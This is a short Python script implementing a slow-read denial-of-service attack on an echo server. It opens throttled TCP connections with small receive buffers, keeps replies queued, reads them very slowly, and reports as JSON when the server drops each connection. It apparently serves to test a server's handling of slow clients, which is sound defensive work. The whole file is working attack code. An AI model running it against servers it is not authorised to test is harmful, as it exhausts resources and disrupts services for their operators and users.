"""Slow-read attack on an echo server (standard library only).

Usage: slow_reader.py HOST PORT [--conns N] [--rcvbuf B] [--chunk C] [--every S] [--for S]

Opens N connections with a small receive buffer (so the advertised window is small and
the server's kernel can hand over only a little at a time), keeps sending so the
server always has replies queued for us, and reads only C bytes per connection every S
seconds: some progress, far too slow. Stops when every connection has been closed by
the server or after --for seconds, and prints one JSON line:
  {"conns": N, "closed": K, "closed_after_ms": [...], "received": [...]}
closed_after_ms[i] is when connection i saw EOF or a reset, from its connect (null if open).
"""

import argparse
import json
import socket
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--conns", type=int, default=4)
    ap.add_argument("--rcvbuf", type=int, default=4096)
    ap.add_argument("--chunk", type=int, default=1024)
    ap.add_argument("--every", type=float, default=0.1)
    ap.add_argument("--for", dest="duration", type=float, default=10.0)
    args = ap.parse_args()

    payload = b"x" * 65536
    socks, opened, closed_after, received = [], [], [], []
    for _ in range(args.conns):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        # Before connect, so the window scale and the first advertised window are small.
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, args.rcvbuf)
        s.connect((args.host, args.port))
        s.setblocking(False)
        socks.append(s)
        opened.append(time.monotonic())
        closed_after.append(None)
        received.append(0)

    deadline = time.monotonic() + args.duration
    while time.monotonic() < deadline and any(c is None for c in closed_after):
        for i, s in enumerate(socks):
            if closed_after[i] is not None:
                continue
            try:
                while s.send(payload) > 0:  # as much as fits: keeps the server's replies queued
                    pass
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                pass  # the reset shows on the read below
            try:
                data = s.recv(args.chunk)
                if not data:
                    closed_after[i] = int((time.monotonic() - opened[i]) * 1000)
                received[i] += len(data)
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                closed_after[i] = int((time.monotonic() - opened[i]) * 1000)
        time.sleep(args.every)

    for s in socks:
        s.close()
    print(json.dumps({
        "conns": args.conns,
        "closed": sum(1 for c in closed_after if c is not None),
        "closed_after_ms": closed_after,
        "received": received,
    }))


if __name__ == "__main__":
    main()
